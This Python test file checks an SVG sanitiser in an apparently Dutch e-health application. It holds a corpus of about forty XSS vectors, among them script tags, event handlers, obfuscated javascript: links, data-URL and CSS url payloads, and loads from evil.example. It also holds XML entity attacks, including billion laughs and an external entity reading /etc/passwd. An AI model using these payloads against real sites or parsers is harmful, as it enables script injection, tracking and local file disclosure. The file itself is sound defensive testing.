"""The SVG sanitiser against an XSS corpus: every vector is refused or comes out harmless, and
the shipped illustrations come out with every element and attribute they had."""

from __future__ import annotations

from pathlib import Path

import defusedxml.ElementTree as SafeET
import pytest

from ehealth.services import svg
from ehealth.services.svg import SvgRefused, parse_svg, sanitise_svg
from tests.conftest import FIXTURE_MEDIA, ROOT

SVG_NS = "http://www.w3.org/2000/svg"
OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
EVIL = "https://evil.example"


def doc(body: str, opening: str = OPEN) -> bytes:
    return f'{opening}{body}<rect id="kept" width="5" height="5"/></svg>'.encode()


# name -> an SVG that tries to run script, load something, or embed a document.
CORPUS: dict[str, bytes] = {
    "script": doc("<script>alert(1)</script>"),
    "script_cdata_external": doc(f'<script type="text/ecmascript" xlink:href="{EVIL}/x.js">'
                                 "<![CDATA[alert(1)]]></script>"),
    "onload_on_root": doc("", OPEN.replace("<svg ", '<svg onload="alert(1)" ')),
    "event_handlers": doc('<rect onclick="alert(1)" onmouseover="alert(2)" onfocusin="x()" '
                          'onbegin="y()" width="1" height="1"/>'),
    "mixed_case_onload": doc('<g ONLOAD="alert(1)" OnLoad="alert(2)" oNcLiCk="alert(3)">'
                             "<circle r='2'/></g>"),
    "a_xlink_javascript": doc('<a xlink:href="javascript:alert(1)"><text x="1" y="9">klik'
                              "</text></a>"),
    "a_href_obfuscated": doc('<a href="&#x6A;avascript:alert(1)"><circle r="3"/></a>'
                             '<a href=" jav&#x09;ascript:alert(2)"><circle r="4"/></a>'
                             '<a href="vbscript:msgbox(1)"><circle r="5"/></a>'),
    "foreign_object_iframe": doc(
        '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="javascript:alert(1)"/><body xmlns="http://www.w3.org/1999/xhtml" '
        'onload="alert(2)"><script>alert(3)</script></body></foreignObject>'),
    "use_external": doc(f'<use href="{EVIL}/sprite.svg#icon"/><use xlink:href="//evil.example'
                        '/sprite.svg#icon"/>'),
    "use_data_url": doc('<use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh'
                        '0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+'
                        'PC9zdmc+#x"/>'),
    "image_data_html": doc('<image href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB'
                           '0Pg==" width="10" height="10"/>'),
    "image_external": doc(f'<image xlink:href="{EVIL}/track.png" width="1" height="1"/>'),
    "animate_href": doc('<a><animate attributeName="href" values="javascript:alert(1)"/>'
                        '<text x="1" y="9">klik</text></a>'),
    "set_event_handler": doc('<rect width="1" height="1"><set attributeName="onmouseover" '
                             'to="alert(1)"/></rect>'),
    "set_xlink_href": doc('<a><set attributeName="xlink:href" to="javascript:alert(1)" '
                          'begin="0s"/><circle r="3"/></a>'),
    "animate_transform_motion": doc('<animateTransform attributeName="transform" type="scale" '
                                    'values="1;2"/><animateMotion path="M0 0 L9 9"><mpath '
                                    f'xlink:href="{EVIL}/p.svg#p"/></animateMotion>'),
    "css_url_javascript": doc('<rect width="1" height="1" style="fill:url(javascript:alert(1))"'
                              f"/><rect style=\"background-image:url('{EVIL}/x.png')\"/>"),
    "css_escape": doc(f'<rect width="1" style="fill:\\75 rl({EVIL}/)"/>'
                      f'<rect fill="\\75 rl({EVIL}/p#x)"/>'),
    "css_comment_split": doc(f'<rect style="fill: u/**/rl({EVIL}/x)"/>'),
    "style_import": doc(f"<style>@import url({EVIL}/x.css); rect {{ fill: red }}</style>"),
    "style_import_no_url": doc(f'<style>@import "{EVIL}/x.css";</style>'),
    "style_expression": doc("<style>rect { width: expression(alert(1)) }</style>"),
    "style_font_face": doc(f"<style>@font-face {{ font-family: x; src: url({EVIL}/f.woff) }}"
                           "</style>"),
    "style_image_set": doc(f'<style>rect {{ fill: image-set("{EVIL}/x.png" 1x) }}</style>'),
    "style_breakout": doc("<style><![CDATA[</style><script>alert(1)</script>]]></style>"),
    "presentation_url_external": doc(f'<rect fill="url({EVIL}/paint.svg#p)" filter="url(\''
                                     f"{EVIL}/f.svg#f')\" mask=\"URL({EVIL}/m#m)\"/>"),
    "handler_element": doc('<handler xmlns:ev="http://www.w3.org/2001/xml-events" '
                           'ev:event="load" type="application/ecmascript">alert(1)</handler>'
                           '<listener event="click" handler="#h"/>'),
    "xhtml_script_by_prefix": doc('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)'
                                  "</h:script>"),
    "svg_prefixed_script": (b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>'
                            b"alert(1)</svg:script><svg:rect id='kept' width='5'/></svg:svg>"),
    "default_namespace_switch": doc('<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)'
                                    "</script><img src=\"x\" onerror=\"alert(2)\"/></g>"),
    "xml_events_attributes": doc('<rect xmlns:ev="http://www.w3.org/2001/xml-events" '
                                 'ev:event="click" ev:handler="#x" width="1"/>'),
    "fake_xlink_prefix": doc('<a xmlns:x="http://www.w3.org/1999/xlink" '
                             'x:href="javascript:alert(1)"><circle r="2"/></a>'),
    "xml_base": doc('<a xml:base="javascript:alert(1)//" href="#kept"><circle r="2"/></a>'),
    "xml_stylesheet_instruction": (f'<?xml-stylesheet type="text/css" href="{EVIL}/x.css"?>'
                                   + OPEN + '<rect id="kept"/></svg>').encode(),
    "fe_image_external": doc(f'<filter id="f"><feImage href="{EVIL}/x.png"/><feImage '
                             f'xlink:href="{EVIL}/y.png"/></filter>'),
    "text_path_external": doc(f'<text><textPath href="{EVIL}/p.svg#p">woorden</textPath>'
                              "</text>"),
    "embedded_documents": doc(f'<iframe src="{EVIL}/"/><embed src="{EVIL}/x.swf"/><object '
                              f'data="{EVIL}/x"/><audio src="{EVIL}/a.mp3"/>'),
    "script_inside_text": doc("<text>Hallo <script>alert(1)</script>wereld</text>"),
    "entity_encoded_javascript_in_style": doc('<rect style="fill:url(&#106;avascript:alert(1))"'
                                              "/>"),
}

# Refused outright: entities (the billion laughs, external entities) and declarations.
REFUSED: dict[str, bytes] = {
    "billion_laughs": (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b '
                       b'"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;'
                       b'&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text>'
                       b"</svg>"),
    "external_entity": (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns='
                        b'"http://www.w3.org/2000/svg"><text>&x;</text></svg>'),
    "parameter_entity": (b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> '
                         b'%p;]><svg xmlns="http://www.w3.org/2000/svg"/>'),
    "attribute_default_declaration": (b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">'
                                      b']><svg xmlns="http://www.w3.org/2000/svg"/>'),
    "undeclared_entity": b'<svg xmlns="http://www.w3.org/2000/svg"><text>&nbsp;</text></svg>',
    "not_svg_html": b"<html><body><script>alert(1)</script></body></html>",
}


def _local(name: str) -> str:
    return name.rsplit("}", 1)[-1]


def assert_harmless(output: bytes) -> None:
    """Only allow-listed SVG elements and attributes; nothing that runs or loads."""
    root = SafeET.fromstring(output, forbid_dtd=True)
    for node in root.iter():
        assert node.tag.startswith(f"{{{SVG_NS}}}"), node.tag
        assert _local(node.tag) in svg.ELEMENTS, node.tag
        for key, value in node.attrib.items():
            assert not _local(key).lower().startswith("on"), key
            assert "}" not in key or key.startswith("{http://www.w3.org/XML/1998/namespace}")
            if _local(key) == "href":
                assert value.startswith("#"), value
    text = output.decode("utf-8").lower().replace(f'xmlns="{SVG_NS}"', "")
    for word in ("script", "javascript", "vbscript", "data:", "http:", "https:", "//evil",
                 "@import", "expression", "foreignobject", "iframe", "alert", "<!doctype",
                 "<?xml-stylesheet", "image-set", "\\"):
        assert word not in text, word


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_each_vector_of_the_corpus_comes_out_harmless(name: str) -> None:
    output = sanitise_svg(CORPUS[name])
    assert_harmless(output)
    assert b'id="kept"' in output  # the drawing around the attack stays
    assert sanitise_svg(output) == output


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_entities_declarations_and_other_documents_are_refused(name: str) -> None:
    with pytest.raises(SvgRefused):
        sanitise_svg(REFUSED[name])


def test_the_corpus_is_large_enough() -> None:
    assert len(CORPUS) + len(REFUSED) >= 40


def test_an_external_dtd_is_never_fetched(tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ATTLIST svg data-fetched CDATA "yes">\n<!ENTITY e "expanded">')
    data = (f'<!DOCTYPE svg SYSTEM "{dtd.as_uri()}"><svg xmlns="{SVG_NS}"><rect/></svg>'
            ).encode()
    assert "data-fetched" not in parse_svg(data).attrib
    assert_harmless(sanitise_svg(data))
    with pytest.raises(SvgRefused):  # its entity is unknown: it was not read
        sanitise_svg(data.replace(b"<rect/>", b"<text>&e;</text>"))


def test_a_bare_doctype_is_accepted_and_not_written_back() -> None:
    data = (b'<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1'
            b'//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://'
            b'www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>')
    output = sanitise_svg(data)
    assert b"DOCTYPE" not in output
    assert b'<rect width="4" height="4" />' in output


def _shipped_svgs() -> list[Path]:
    return sorted([*(ROOT / "media").glob("*/*.svg"), *FIXTURE_MEDIA.glob("*/*.svg")])


def _drawing(data: bytes) -> list[tuple[str, dict[str, str], str]]:
    root = SafeET.fromstring(data)
    return [(_local(node.tag), {_local(k): v for k, v in node.attrib.items()},
             (node.text or "").strip() if _local(node.tag) in svg.TEXT_ELEMENTS else "")
            for node in root.iter()]


@pytest.mark.parametrize("path", _shipped_svgs(), ids=lambda p: f"{p.parent.name}/{p.name}")
def test_a_clean_illustration_keeps_every_element_and_attribute(path: Path) -> None:
    original = path.read_bytes()
    output = sanitise_svg(original)
    assert _drawing(output) == _drawing(original)
    assert sanitise_svg(output) == output


def test_the_shipped_illustrations_are_there_to_compare() -> None:
    assert len(_shipped_svgs()) >= 10


def test_words_after_a_dropped_element_stay_in_the_text() -> None:
    output = sanitise_svg(CORPUS["script_inside_text"])
    assert b"<text>Hallo wereld</text>" in output


def test_a_link_keeps_its_drawing_as_a_group() -> None:
    root = SafeET.fromstring(sanitise_svg(CORPUS["a_xlink_javascript"]))
    group = root.find(f"{{{SVG_NS}}}g")
    assert group is not None
    assert group.find(f"{{{SVG_NS}}}text") is not None


def test_local_references_stay() -> None:
    data = (f'<svg xmlns="{SVG_NS}" xmlns:xlink="http://www.w3.org/1999/xlink"><defs>'
            '<linearGradient id="sky"><stop offset="0" stop-color="#fff"/></linearGradient>'
            '<symbol id="s"><circle r="1"/></symbol></defs><rect fill="url(#sky)" '
            "style=\"stroke: url('#sky')\"/><use xlink:href=\"#s\"/></svg>").encode()
    output = sanitise_svg(data)
    assert b'fill="url(#sky)"' in output
    assert b"stroke: url('#sky')" in output
    assert b'<use href="#s" />' in output


def test_a_file_without_namespace_is_read_as_svg() -> None:
    output = sanitise_svg(b'<svg width="2"><rect width="2"/><script>alert(1)</script></svg>')
    assert output.endswith(f'<svg xmlns="{SVG_NS}" width="2"><rect width="2" /></svg>'
                           .encode())


def test_an_svg_nested_too_deeply_is_refused() -> None:
    depth = svg.MAX_DEPTH + 1
    data = f'<svg xmlns="{SVG_NS}">{"<g>" * depth}{"</g>" * depth}</svg>'.encode()
    with pytest.raises(SvgRefused) as refused:
        sanitise_svg(data)
    assert refused.value.reason == "too_deep"
    fine = svg.MAX_DEPTH - 1
    sanitise_svg(f'<svg xmlns="{SVG_NS}">{"<g>" * fine}{"</g>" * fine}</svg>'.encode())


def test_an_svg_with_too_many_elements_is_refused() -> None:
    data = f'<svg xmlns="{SVG_NS}">{"<rect/>" * (svg.MAX_ELEMENTS + 1)}</svg>'.encode()
    with pytest.raises(SvgRefused) as refused:
        sanitise_svg(data)
    assert refused.value.reason == "too_large"


def test_a_broken_svg_says_where() -> None:
    with pytest.raises(SvgRefused) as refused:
        sanitise_svg(b'<svg xmlns="http://www.w3.org/2000/svg">\n  <g>\n</svg>')
    assert (refused.value.reason, refused.value.line) == ("malformed", 3)


@pytest.mark.parametrize("data", [
    "<?xml version='1.0' encoding='UTF-16'?><svg xmlns='http://www.w3.org/2000/svg'/>"
    .encode("utf-16"),
    b"\xef\xbb\xbf<!-- " + "é".encode() * 3000 + b" --><svg xmlns='http://www.w3.org/2000/svg'/>",
    b'<!DOCTYPE svg [ <!ENTITY a "b"> ]>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
], ids=["utf-16", "long-comment", "internal-subset"])
def test_an_svg_is_recognised_behind_its_prologue(data: bytes) -> None:
    assert svg.looks_like_svg(data)


def test_other_text_is_not_taken_for_an_svg() -> None:
    assert not svg.looks_like_svg(b"<html><svg></svg></html>")
    assert not svg.looks_like_svg(b"svg")
